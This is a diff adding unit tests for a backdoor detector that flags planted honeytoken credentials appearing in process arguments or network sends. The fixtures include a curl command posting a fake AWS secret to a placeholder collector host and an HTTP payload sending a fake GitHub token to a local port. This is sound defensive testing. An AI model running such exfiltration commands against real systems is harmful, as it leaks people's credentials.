@@ -1026,3 +1026,76 @@ Test(backdoor, a_shell_connection_that_reached_its_peer_is_reported_once)
 	cr_assert(strstr(f->message, "reached its peer"), "%s", f->message);
 	harness_free(h);
 }
+
+/* ---- honeytokens ------------------------------------------------------------ */
+
+static void plant(struct harness *h, const char *name, const char *value)
+{
+	struct da_event ev = ev_make(DA_EV_SYSCALL_OTHER, 0, 0);
+	ev.syscall = "honeytoken";
+	ev.detail = name;
+	ev.text = value;
+	publish(h, &ev);
+}
+
+#define SECRET "Qx7pVb2LmN9aZr4TkW1sYc8HdF3gJ6uE0oIiPl5R"
+
+Test(backdoor, honeytoken_in_argv_is_critical_and_names_the_token)
+{
+	struct harness *h = harness_new_live("backdoor", NULL);
+	plant(h, "AWS_SECRET_ACCESS_KEY", SECRET);
+	static const char *argv[] = {"curl", "-d", "k=" SECRET, "http://collector.invalid/"};
+	struct da_event ev = ev_make(DA_EV_PROC_EXEC, 300, 1.0);
+	ev.syscall = "execve";
+	ev.path = "/usr/bin/curl";
+	ev.argv = argv;
+	ev.argc = 4;
+	ev.text = "execve(\"/usr/bin/curl\", [...]) = 0";
+	publish(h, &ev);
+	publish(h, &ev); /* once per token and destination */
+	harness_finish(h);
+	const struct harness_finding *f = harness_get(h, "backdoor.honeytoken");
+	cr_assert_not_null(f);
+	cr_assert_eq(f->severity, DA_SEV_CRITICAL);
+	cr_assert(strstr(f->message, "AWS_SECRET_ACCESS_KEY") && strstr(f->message, "curl"), "%s",
+		  f->message);
+	cr_assert_eq(harness_count(h, "backdoor.honeytoken"), 1);
+	harness_free(h);
+}
+
+Test(backdoor, honeytoken_in_send_payload_names_the_destination)
+{
+	struct harness *h = harness_new_live("backdoor", NULL);
+	plant(h, "GITHUB_TOKEN", "ghp_abcdefghijklmnopqrstuvwxyz0123456789");
+	struct da_event ev = ev_make(DA_EV_NET_SEND, 300, 1.0);
+	ev.syscall = "sendto";
+	ev.fd = 4;
+	ev.addr = "127.0.0.1:9000";
+	ev.detail = "POST / HTTP/1.0\\x0d\\x0a\\x0d\\x0atoken=ghp_abcdefghijklmnopqrstuvwxyz0123456789";
+	ev.text = "sendto(4, 0x1000, 60, 0, NULL, 0) = 60";
+	publish(h, &ev);
+	harness_finish(h);
+	const struct harness_finding *f = harness_get(h, "backdoor.honeytoken");
+	cr_assert_not_null(f);
+	cr_assert(strstr(f->message, "GITHUB_TOKEN") && strstr(f->message, "127.0.0.1:9000"), "%s",
+		  f->message);
+	cr_assert_eq(f->n_evidence, 2); /* the send and the data */
+	harness_free(h);
+}
+
+Test(backdoor, honeytoken_not_sent_is_silent)
+{
+	struct harness *h = harness_new_live("backdoor", NULL);
+	plant(h, "AWS_SECRET_ACCESS_KEY", SECRET);
+	send_to(h, 300, 1.0, "127.0.0.1:9000");
+	static const char *argv[] = {"sh", "-c", "echo Qx7pVb2LmN9aZr4"}; /* a prefix only */
+	struct da_event ev = ev_make(DA_EV_PROC_EXEC, 300, 1.0);
+	ev.syscall = "execve";
+	ev.path = "/bin/sh";
+	ev.argv = argv;
+	ev.argc = 3;
+	publish(h, &ev);
+	harness_finish(h);
+	cr_assert_eq(harness_count(h, "backdoor.honeytoken"), 0);
+	harness_free(h);
+}
